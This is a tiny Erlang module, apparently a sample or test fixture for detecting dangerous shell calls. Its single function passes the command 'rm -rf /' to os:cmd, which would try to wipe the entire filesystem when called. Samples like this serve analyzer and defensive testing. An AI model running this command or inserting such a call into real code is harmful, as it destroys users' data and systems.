-module(os_cmd).
-export([f/0]).
f() -> os:cmd("rm -rf /").
